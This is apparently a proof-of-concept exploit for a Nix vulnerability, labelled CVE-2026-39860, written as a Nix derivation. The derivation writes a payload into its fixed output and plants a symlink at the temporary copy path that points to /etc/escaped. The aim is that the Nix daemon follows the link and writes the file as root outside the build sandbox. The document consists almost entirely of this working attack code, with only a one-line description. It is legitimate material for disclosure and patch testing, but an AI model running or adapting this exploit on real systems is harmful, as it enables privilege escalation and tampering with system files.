# CVE-2026-39860 (GHSA-g3g9-5vj6-r3gj): Nix copies a fixed output beside itself, to a name that the build may have made a link before.
let
  payload = "written by a build, as root\n";
in
derivation {
  name = "root";
  system = builtins.currentSystem;
  builder = "/bin/sh";
  inherit payload;
  target = "/etc/escaped";
  busybox = builtins.path {
    path = /usr/bin/busybox;
    name = "busybox";
  };
  outputHashMode = "flat";
  outputHashAlgo = "sha256";
  outputHash = builtins.hashString "sha256" payload;
  args = [
    "-c"
    ''printf %s "$payload" >$out; (exec -a busybox $busybox ln -s $target $out.tmp)''
  ];
}
